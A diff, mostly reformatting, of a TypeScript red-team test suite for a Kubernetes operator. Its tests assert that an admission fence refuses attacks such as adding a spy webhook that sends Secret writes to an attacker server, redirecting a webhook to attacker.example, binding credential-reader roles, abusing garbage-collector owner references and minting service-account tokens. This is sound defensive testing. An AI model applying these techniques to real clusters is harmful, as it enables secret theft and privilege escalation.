@@ -44,11 +44,20 @@ const SA_GROUPS = ['system:serviceaccounts', `system:serviceaccounts:${OPERATOR_
 const RBAC = 'rbac.authorization.k8s.io';
 const operator = (): KubeClient => userClient(OPERATOR, SA_GROUPS);
 
-type Webhook = { name: string; clientConfig: { url?: string; service?: unknown; caBundle?: string }; rules: unknown[]; failurePolicy?: string; [k: string]: unknown };
+type Webhook = {
+  name: string;
+  clientConfig: { url?: string; service?: unknown; caBundle?: string };
+  rules: unknown[];
+  failurePolicy?: string;
+  [k: string]: unknown;
+};
 type WebhookConfig = KubeObject & { webhooks?: Webhook[] };
 
 async function refused(p: Promise<unknown>, statuses = [403]): Promise<KubeApiError> {
-  const err = await p.then(() => undefined, (e: unknown) => e);
+  const err = await p.then(
+    () => undefined,
+    (e: unknown) => e,
+  );
   expect(err).toBeInstanceOf(KubeApiError);
   expect(statuses, (err as KubeApiError).message).toContain((err as KubeApiError).status);
   return err as KubeApiError;
@@ -68,21 +77,41 @@ describe("attack: the operator rewrites atoll's webhook configurations", () => {
     const ca = createCertificateAuthority({ commonName: 'attacker-ca' });
     const tls = createCertificate({ issuer: ca, commonName: '127.0.0.1', ipAddresses: ['127.0.0.1'], usage: 'server' });
     caBundle = Buffer.from(ca.certPem).toString('base64');
-    sink = await startHttpFixture((req, res) => {
-      const uid = (JSON.parse(req.body || '{}') as { request?: { uid?: string } }).request?.uid;
-      res.setHeader('content-type', 'application/json');
-      res.end(JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', response: { uid, allowed: true } }));
-    }, { tls });
+    sink = await startHttpFixture(
+      (req, res) => {
+        const uid = (JSON.parse(req.body || '{}') as { request?: { uid?: string } }).request?.uid;
+        res.setHeader('content-type', 'application/json');
+        res.end(
+          JSON.stringify({
+            apiVersion: 'admission.k8s.io/v1',
+            kind: 'AdmissionReview',
+            response: { uid, allowed: true },
+          }),
+        );
+      },
+      { tls },
+    );
     await admin().create(Namespaces, { metadata: { name: plain } });
     saved.mutating = (await admin().get<WebhookConfig>(MutatingWebhookConfigurations, 'atoll-mutating')).webhooks ?? [];
-    saved.validating = (await admin().get<WebhookConfig>(ValidatingWebhookConfigurations, 'atoll-validating')).webhooks ?? [];
+    saved.validating =
+      (await admin().get<WebhookConfig>(ValidatingWebhookConfigurations, 'atoll-validating')).webhooks ?? [];
   });
 
   afterAll(async () => {
     // Put atoll's configurations back whatever happened, so later suites see the real webhooks.
-    await admin().jsonPatch(MutatingWebhookConfigurations, 'atoll-mutating', undefined, [{ op: 'replace', path: '/webhooks', value: saved.mutating }]).catch(() => undefined);
-    await admin().jsonPatch(ValidatingWebhookConfigurations, 'atoll-validating', undefined, [{ op: 'replace', path: '/webhooks', value: saved.validating }]).catch(() => undefined);
-    await admin().delete(Namespaces, plain).catch(() => undefined);
+    await admin()
+      .jsonPatch(MutatingWebhookConfigurations, 'atoll-mutating', undefined, [
+        { op: 'replace', path: '/webhooks', value: saved.mutating },
+      ])
+      .catch(() => undefined);
+    await admin()
+      .jsonPatch(ValidatingWebhookConfigurations, 'atoll-validating', undefined, [
+        { op: 'replace', path: '/webhooks', value: saved.validating },
+      ])
+      .catch(() => undefined);
+    await admin()
+      .delete(Namespaces, plain)
+      .catch(() => undefined);
     await sink?.stop();
   });
 
@@ -90,17 +119,39 @@ describe("attack: the operator rewrites atoll's webhook configurations", () => {
     const spy = {
       name: 'audit.secrets.atoll.dev',
       clientConfig: { url: `${sink.url}/spy`, caBundle },
-      rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE', 'UPDATE'], resources: ['secrets'], scope: 'Namespaced' }],
-      admissionReviewVersions: ['v1'], sideEffects: 'None', failurePolicy: 'Ignore', timeoutSeconds: 5,
+      rules: [
+        {
+          apiGroups: [''],
+          apiVersions: ['v1'],
+          operations: ['CREATE', 'UPDATE'],
+          resources: ['secrets'],
+          scope: 'Namespaced',
+        },
+      ],
+      admissionReviewVersions: ['v1'],
+      sideEffects: 'None',
+      failurePolicy: 'Ignore',
+      timeoutSeconds: 5,
     };
-    const err = await refused(operator().jsonPatch(ValidatingWebhookConfigurations, 'atoll-validating', undefined, [{ op: 'add', path: '/webhooks/-', value: spy }]));
+    const err = await refused(
+      operator().jsonPatch(ValidatingWebhookConfigurations, 'atoll-validating', undefined, [
+        { op: 'add', path: '/webhooks/-', value: spy },
+      ]),
+    );
     expect(err.message).toContain(FENCE);
-    const err2 = await refused(operator().jsonPatch(MutatingWebhookConfigurations, 'atoll-mutating', undefined, [{ op: 'add', path: '/webhooks/-', value: { ...spy, reinvocationPolicy: 'Never' } }]));
+    const err2 = await refused(
+      operator().jsonPatch(MutatingWebhookConfigurations, 'atoll-mutating', undefined, [
+        { op: 'add', path: '/webhooks/-', value: { ...spy, reinvocationPolicy: 'Never' } },
+      ]),
+    );
     expect(err2.message).toContain(FENCE);
     const stored = await admin().get<WebhookConfig>(ValidatingWebhookConfigurations, 'atoll-validating');
     expect(stored.webhooks?.map((w) => w.name)).toEqual(saved.validating!.map((w) => w.name));
     // Nothing reaches the attacker's server when someone writes a Secret.
-    await admin().create(Secrets, { metadata: { name: 'precious', namespace: plain }, stringData: { token: precious } } as never);
+    await admin().create(Secrets, {
+      metadata: { name: 'precious', namespace: plain },
+      stringData: { token: precious },
+    } as never);
     await admin().mergePatch(Secrets, 'precious', plain, { stringData: { token: `${precious}-2` } });
     expect(sink.requests.map((r) => r.body).join('')).not.toContain('precious');
     expect(sink.requests).toHaveLength(0);
@@ -108,28 +159,81 @@ describe("attack: the operator rewrites atoll's webhook configurations", () => {
 
   it("refuses weakening atoll's own webhooks: failurePolicy Ignore, fewer operations, selectors, another server", async () => {
     const patches: Array<[typeof MutatingWebhookConfigurations, string, unknown[]]> = [
-      [ValidatingWebhookConfigurations, 'atoll-validating', [{ op: 'replace', path: '/webhooks/0/failurePolicy', value: 'Ignore' }]],
-      [ValidatingWebhookConfigurations, 'atoll-validating', [{ op: 'replace', path: '/webhooks/0/rules/0/operations', value: ['CREATE'] }]],
-      [ValidatingWebhookConfigurations, 'atoll-validating', [{ op: 'replace', path: '/webhooks/1/objectSelector', value: { matchLabels: { 'never-validated': 'true' } } }]],
+      [
+        ValidatingWebhookConfigurations,
+        'atoll-validating',
+        [{ op: 'replace', path: '/webhooks/0/failurePolicy', value: 'Ignore' }],
+      ],
+      [
+        ValidatingWebhookConfigurations,
+        'atoll-validating',
+        [{ op: 'replace', path: '/webhooks/0/rules/0/operations', value: ['CREATE'] }],
+      ],
+      [
+        ValidatingWebhookConfigurations,
+        'atoll-validating',
+        [{ op: 'replace', path: '/webhooks/1/objectSelector', value: { matchLabels: { 'never-validated': 'true' } } }],
+      ],
       [ValidatingWebhookConfigurations, 'atoll-validating', [{ op: 'replace', path: '/webhooks', value: [] }]],
-      [MutatingWebhookConfigurations, 'atoll-mutating', [{ op: 'replace', path: '/webhooks/0/namespaceSelector', value: { matchLabels: { 'kubernetes.io/metadata.name': 'nowhere' } } }]],
-      [MutatingWebhookConfigurations, 'atoll-mutating', [{ op: 'replace', path: '/webhooks/0/clientConfig', value: { url: `https://attacker.example:8443/mutate`, caBundle } }]],
-      [MutatingWebhookConfigurations, 'atoll-mutating', [{ op: 'replace', path: '/webhooks/0/rules/0/resources', value: ['externalconnections', 'secrets'] }]],
+      [
+        MutatingWebhookConfigurations,
+        'atoll-mutating',
+        [
+          {
+            op: 'replace',
+            path: '/webhooks/0/namespaceSelector',
+            value: { matchLabels: { 'kubernetes.io/metadata.name': 'nowhere' } },
+          },
+        ],
+      ],
+      [
+        MutatingWebhookConfigurations,
+        'atoll-mutating',
+        [
+          {
+            op: 'replace',
+            path: '/webhooks/0/clientConfig',
+            value: { url: `https://attacker.example:8443/mutate`, caBundle },
+          },
+        ],
+      ],
+      [
+        MutatingWebhookConfigurations,
+        'atoll-mutating',
+        [{ op: 'replace', path: '/webhooks/0/rules/0/resources', value: ['externalconnections', 'secrets'] }],
+      ],
     ];
     for (const [type, name, ops] of patches) {
       const err = await refused(operator().jsonPatch(type, name, undefined, ops));
       expect(err.message, JSON.stringify(ops)).toContain(FENCE);
     }
-    expect((await admin().get<WebhookConfig>(ValidatingWebhookConfigurations, 'atoll-validating')).webhooks).toEqual(saved.validating);
-    expect((await admin().get<WebhookConfig>(MutatingWebhookConfigurations, 'atoll-mutating')).webhooks).toEqual(saved.mutating);
+    expect((await admin().get<WebhookConfig>(ValidatingWebhookConfigurations, 'atoll-validating')).webhooks).toEqual(
+      saved.validating,
+    );
+    expect((await admin().get<WebhookConfig>(MutatingWebhookConfigurations, 'atoll-mutating')).webhooks).toEqual(
+      saved.mutating,
+    );
   });
 
   it('still lets the operator re-apply its configurations and rotate caBundle', async () => {
-    const rotated = saved.validating!.map((w) => ({ ...w, clientConfig: { ...w.clientConfig, caBundle: w.clientConfig.caBundle } }));
-    await operator().apply(ValidatingWebhookConfigurations, { metadata: { name: 'atoll-validating' }, webhooks: rotated } as never, { fieldManager: 'atoll', force: true });
-    await operator().jsonPatch(MutatingWebhookConfigurations, 'atoll-mutating', undefined, [{ op: 'replace', path: '/webhooks/0/clientConfig/caBundle', value: caBundle }]);
-    await operator().jsonPatch(MutatingWebhookConfigurations, 'atoll-mutating', undefined, [{ op: 'replace', path: '/webhooks/0/clientConfig/caBundle', value: saved.mutating![0]!.clientConfig.caBundle }]);
-    expect((await admin().get<WebhookConfig>(MutatingWebhookConfigurations, 'atoll-mutating')).webhooks).toEqual(saved.mutating);
+    const rotated = saved.validating!.map((w) => ({
+      ...w,
+      clientConfig: { ...w.clientConfig, caBundle: w.clientConfig.caBundle },
+    }));
+    await operator().apply(
+      ValidatingWebhookConfigurations,
+      { metadata: { name: 'atoll-validating' }, webhooks: rotated } as never,
+      { fieldManager: 'atoll', force: true },
+    );
+    await operator().jsonPatch(MutatingWebhookConfigurations, 'atoll-mutating', undefined, [
+      { op: 'replace', path: '/webhooks/0/clientConfig/caBundle', value: caBundle },
+    ]);
+    await operator().jsonPatch(MutatingWebhookConfigurations, 'atoll-mutating', undefined, [
+      { op: 'replace', path: '/webhooks/0/clientConfig/caBundle', value: saved.mutating![0]!.clientConfig.caBundle },
+    ]);
+    expect((await admin().get<WebhookConfig>(MutatingWebhookConfigurations, 'atoll-mutating')).webhooks).toEqual(
+      saved.mutating,
+    );
   });
 });
 
@@ -139,16 +243,26 @@ describe('attack: the operator binds atoll-operator-quota where it has no busine
 
   beforeAll(async () => {
     await admin().create(Namespaces, { metadata: { name: plain } });
-    await admin().create(ResourceQuotas, { metadata: { name: 'team-limits', namespace: plain }, spec: { hard: { pods: '10' } } } as never);
-    await createWorkspace(ws, { policy: { maxConnections: 2 }, members: [{ kind: 'User', name: 'quota-tenant', role: 'admin' }] });
+    await admin().create(ResourceQuotas, {
+      metadata: { name: 'team-limits', namespace: plain },
+      spec: { hard: { pods: '10' } },
+    } as never);
+    await createWorkspace(ws, {
+      policy: { maxConnections: 2 },
+      members: [{ kind: 'User', name: 'quota-tenant', role: 'admin' }],
+    });
   });
 
   afterAll(async () => {
-    await admin().delete(Namespaces, plain).catch(() => undefined);
+    await admin()
+      .delete(Namespaces, plain)
+      .catch(() => undefined);
   });
 
   it('refuses it in a namespace the operator labelled itself, and the quota there survives', async () => {
-    await operator().mergePatch(Namespaces, plain, undefined, { metadata: { labels: { 'atoll.dev/workspace': 'forged' } } });
+    await operator().mergePatch(Namespaces, plain, undefined, {
+      metadata: { labels: { 'atoll.dev/workspace': 'forged' } },
+    });
     try {
       const binding = (labels: Record<string, string>) => ({
         metadata: { name: 'atoll-operator-quota', namespace: plain, labels },
@@ -156,32 +270,49 @@ describe('attack: the operator binds atoll-operator-quota where it has no busine
         subjects: [{ kind: 'ServiceAccount', name: 'atoll-controller', namespace: OPERATOR_NS }],
       });
       await refused(operator().create(RoleBindings, binding({}) as never), [403, 422]);
-      await refused(operator().create(RoleBindings, binding({ 'app.kubernetes.io/managed-by': 'atoll' }) as never), [403, 422]);
+      await refused(
+        operator().create(RoleBindings, binding({ 'app.kubernetes.io/managed-by': 'atoll' }) as never),
+        [403, 422],
+      );
       expect(await admin().tryGet(RoleBindings, 'atoll-operator-quota', plain)).toBeUndefined();
       await refused(operator().delete(ResourceQuotas, 'team-limits', plain));
       expect(await admin().tryGet(ResourceQuotas, 'team-limits', plain)).toBeDefined();
     } finally {
-      await operator().mergePatch(Namespaces, plain, undefined, { metadata: { labels: { 'atoll.dev/workspace': null } } });
+      await operator().mergePatch(Namespaces, plain, undefined, {
+        metadata: { labels: { 'atoll.dev/workspace': null } },
+      });
     }
   });
 
   it('refuses binding it to a tenant, who could then raise their own connection limit', async () => {
-    await refused(operator().create(RoleBindings, {
-      metadata: { name: 'tenant-quota', namespace: ws, labels: { 'app.kubernetes.io/managed-by': 'atoll' } },
-      roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'atoll-operator-quota' },
-      subjects: [{ apiGroup: RBAC, kind: 'User', name: 'quota-tenant' }],
-    } as never));
+    await refused(
+      operator().create(RoleBindings, {
+        metadata: { name: 'tenant-quota', namespace: ws, labels: { 'app.kubernetes.io/managed-by': 'atoll' } },
+        roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'atoll-operator-quota' },
+        subjects: [{ apiGroup: RBAC, kind: 'User', name: 'quota-tenant' }],
+      } as never),
+    );
     expect(await admin().tryGet(RoleBindings, 'tenant-quota', ws)).toBeUndefined();
     // RBAC lets the operator bind atoll-connection-reader (plaintext credentials through the gateway); the fence does not.
-    const reader = await refused(operator().create(RoleBindings, {
-      metadata: { name: 'reader-grab', namespace: ws },
-      roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'atoll-connection-reader' },
-      subjects: [{ kind: 'ServiceAccount', name: 'atoll-controller', namespace: OPERATOR_NS }],
-    } as never));
+    const reader = await refused(
+      operator().create(RoleBindings, {
+        metadata: { name: 'reader-grab', namespace: ws },
+        roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'atoll-connection-reader' },
+        subjects: [{ kind: 'ServiceAccount', name: 'atoll-controller', namespace: OPERATOR_NS }],
+      } as never),
+    );
     expect(reader.message).toContain("binds only the tenant Roles and atoll's own ClusterRoles");
     expect(await admin().tryGet(RoleBindings, 'reader-grab', ws)).toBeUndefined();
-    await refused(userClient('quota-tenant').mergePatch(ResourceQuotas, 'atoll-connections', ws, { spec: { hard: { 'count/externalconnections.atoll.dev': '100000' } } }));
-    const q = await admin().get<KubeObject & { spec: { hard: Record<string, string> } }>(ResourceQuotas, 'atoll-connections', ws);
+    await refused(
+      userClient('quota-tenant').mergePatch(ResourceQuotas, 'atoll-connections', ws, {
+        spec: { hard: { 'count/externalconnections.atoll.dev': '100000' } },
+      }),
+    );
+    const q = await admin().get<KubeObject & { spec: { hard: Record<string, string> } }>(
+      ResourceQuotas,
+      'atoll-connections',
+      ws,
+    );
     expect(q.spec.hard['count/externalconnections.atoll.dev']).toBe('2');
   });
 });
@@ -192,20 +323,39 @@ describe('attack: the operator deletes Roles and RoleBindings outside workspace 
 
   beforeAll(async () => {
     await admin().create(Namespaces, { metadata: { name: plain } });
-    await admin().create(Roles, { metadata: { name: 'app-reader', namespace: plain }, rules: [{ apiGroups: [''], resources: ['configmaps'], verbs: ['get'] }] } as never);
-    await admin().create(RoleBindings, { metadata: { name: 'app-reader', namespace: plain }, roleRef: { apiGroup: RBAC, kind: 'Role', name: 'app-reader' }, subjects: [{ apiGroup: RBAC, kind: 'User', name: 'app' }] } as never);
+    await admin().create(Roles, {
+      metadata: { name: 'app-reader', namespace: plain },
+      rules: [{ apiGroups: [''], resources: ['configmaps'], verbs: ['get'] }],
+    } as never);
+    await admin().create(RoleBindings, {
+      metadata: { name: 'app-reader', namespace: plain },
+      roleRef: { apiGroup: RBAC, kind: 'Role', name: 'app-reader' },
+      subjects: [{ apiGroup: RBAC, kind: 'User', name: 'app' }],
+    } as never);
     // Our own victim in kube-system: the attack must not be able to hurt the shared cluster.
-    await admin().create(RoleBindings, { metadata: { name: 'redteam-victim', namespace: 'kube-system' }, roleRef: { apiGroup: RBAC, kind: 'Role', name: 'app-reader' }, subjects: [{ apiGroup: RBAC, kind: 'User', name: 'app' }] } as never);
+    await admin().create(RoleBindings, {
+      metadata: { name: 'redteam-victim', namespace: 'kube-system' },
+      roleRef: { apiGroup: RBAC, kind: 'Role', name: 'app-reader' },
+      subjects: [{ apiGroup: RBAC, kind: 'User', name: 'app' }],
+    } as never);
     await createWorkspace(ws, { members: [{ kind: 'User', name: 'rbac-tenant', role: 'admin' }] });
-    await userClient('rbac-tenant').create(RoleBindings, { metadata: { name: 'ci-uses-connections', namespace: ws }, roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'atoll-connection-user' }, subjects: [{ apiGroup: RBAC, kind: 'User', name: 'ci' }] } as never);
+    await userClient('rbac-tenant').create(RoleBindings, {
+      metadata: { name: 'ci-uses-connections', namespace: ws },
+      roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'atoll-connection-user' },
+      subjects: [{ apiGroup: RBAC, kind: 'User', name: 'ci' }],
+    } as never);
   });
 
   afterAll(async () => {
-    await admin().delete(RoleBindings, 'redteam-victim', 'kube-system').catch(() => undefined);
-    await admin().delete(Namespaces, plain).catch(() => undefined);
+    await admin()
+      .delete(RoleBindings, 'redteam-victim', 'kube-system')
+      .catch(() => undefined);
+    await admin()
+      .delete(Namespaces, plain)
+      .catch(() => undefined);
   });
 
-  it('refuses deleting RBAC in kube-system, in other namespaces and tenants\' own bindings; all of it stays', async () => {
+  it("refuses deleting RBAC in kube-system, in other namespaces and tenants' own bindings; all of it stays", async () => {
     await refused(operator().delete(RoleBindings, 'redteam-victim', 'kube-system'));
     await refused(operator().delete(RoleBindings, 'app-reader', plain));
     await refused(operator().delete(Roles, 'app-reader', plain));
@@ -216,19 +366,29 @@ describe('attack: the operator deletes Roles and RoleBindings outside workspace 
     expect(await admin().tryGet(RoleBindings, 'ci-uses-connections', ws)).toBeDefined();
   });
 
-  it("still lets the operator delete its own bindings in a workspace (it puts them back)", async () => {
+  it('still lets the operator delete its own bindings in a workspace (it puts them back)', async () => {
     await operator().delete(RoleBindings, 'atoll-viewer', ws);
     expect(await admin().tryGet(RoleBindings, 'atoll-viewer', ws)).toBeUndefined();
     // A change to the Workspace makes the reconciler put it back.
     await admin().mergePatch(Workspaces, ws, ws, { metadata: { annotations: { 'example.com/touch': '1' } } });
-    await eventually('the reconciler restores atoll-viewer', () => admin().tryGet(RoleBindings, 'atoll-viewer', ws), (rb) => rb !== undefined, 60_000);
+    await eventually(
+      'the reconciler restores atoll-viewer',
+      () => admin().tryGet(RoleBindings, 'atoll-viewer', ws),
+      (rb) => rb !== undefined,
+      60_000,
+    );
   });
 });
 
 describe('attack: the operator has the garbage collector delete what it may not', () => {
   const ws = uniqueName('gc-ws');
   // An owner that does not exist: the garbage collector deletes the dependent at once.
-  const dangling = { apiVersion: 'atoll.dev/v1alpha1', kind: 'IntegrationType', name: 'does-not-exist', uid: '00000000-0000-4000-8000-000000000001' };
+  const dangling = {
+    apiVersion: 'atoll.dev/v1alpha1',
+    kind: 'IntegrationType',
+    name: 'does-not-exist',
+    uid: '00000000-0000-4000-8000-000000000001',
+  };
 
   beforeAll(async () => {
     await createWorkspace(ws, { members: [{ kind: 'User', name: 'gc-tenant', role: 'admin' }] });
@@ -237,7 +397,11 @@ describe('attack: the operator has the garbage collector delete what it may not'
   it('refuses a dangling owner reference or a spec change on a Workspace (it holds no delete on Workspaces)', async () => {
     const err = await refused(operator().mergePatch(Workspaces, ws, ws, { metadata: { ownerReferences: [dangling] } }));
     expect(err.message).toContain('never its spec or owner references');
-    await refused(operator().mergePatch(Workspaces, ws, ws, { spec: { members: [{ kind: 'User', name: 'intruder', role: 'admin' }] } }));
+    await refused(
+      operator().mergePatch(Workspaces, ws, ws, {
+        spec: { members: [{ kind: 'User', name: 'intruder', role: 'admin' }] },
+      }),
+    );
     const stored = await admin().get<KubeObject & { spec?: { members?: Array<{ name: string }> } }>(Workspaces, ws, ws);
     expect(stored.metadata?.ownerReferences).toBeUndefined();
     expect(stored.metadata?.deletionTimestamp).toBeUndefined();
@@ -247,7 +411,9 @@ describe('attack: the operator has the garbage collector delete what it may not'
   it("refuses a dangling owner reference or a finalizer on atoll's webhook configurations", async () => {
     for (const type of [ValidatingWebhookConfigurations, MutatingWebhookConfigurations]) {
       const name = type === ValidatingWebhookConfigurations ? 'atoll-validating' : 'atoll-mutating';
-      const err = await refused(operator().mergePatch(type, name, undefined, { metadata: { ownerReferences: [dangling] } }));
+      const err = await refused(
+        operator().mergePatch(type, name, undefined, { metadata: { ownerReferences: [dangling] } }),
+      );
       expect(err.message).toContain('owner references or finalizers');
       await refused(operator().mergePatch(type, name, undefined, { metadata: { finalizers: ['example.com/hold'] } }));
       const stored = await admin().get<KubeObject>(type, name);
@@ -268,15 +434,23 @@ describe('attack: the operator mints a token for a ServiceAccount it may not act
 
   it('refuses a Secret of type service-account-token, in a workspace namespace or its own; other Secrets still work', async () => {
     // RBAC lets it write Secrets in both; the token controller would fill such a Secret with a token it may read.
-    for (const [namespace, sa] of [[ws, 'deployer'], [OPERATOR_NS, 'atoll-gateway']] as const) {
-      const err = await refused(operator().create(Secrets, {
-        metadata: { name: 'minted-token', namespace, annotations: { 'kubernetes.io/service-account.name': sa } },
-        type: 'kubernetes.io/service-account-token',
-      } as never));
+    for (const [namespace, sa] of [
+      [ws, 'deployer'],
+      [OPERATOR_NS, 'atoll-gateway'],
+    ] as const) {
+      const err = await refused(
+        operator().create(Secrets, {
+          metadata: { name: 'minted-token', namespace, annotations: { 'kubernetes.io/service-account.name': sa } },
+          type: 'kubernetes.io/service-account-token',
+        } as never),
+      );
       expect(err.message).toContain('writes no Secret of type kubernetes.io/service-account-token');
       expect(await admin().tryGet(Secrets, 'minted-token', namespace)).toBeUndefined();
     }
-    await operator().create(Secrets, { metadata: { name: 'plain-secret', namespace: ws }, stringData: { k: 'v' } } as never);
+    await operator().create(Secrets, {
+      metadata: { name: 'plain-secret', namespace: ws },
+      stringData: { k: 'v' },
+    } as never);
     await operator().delete(Secrets, 'plain-secret', ws);
   });
 });
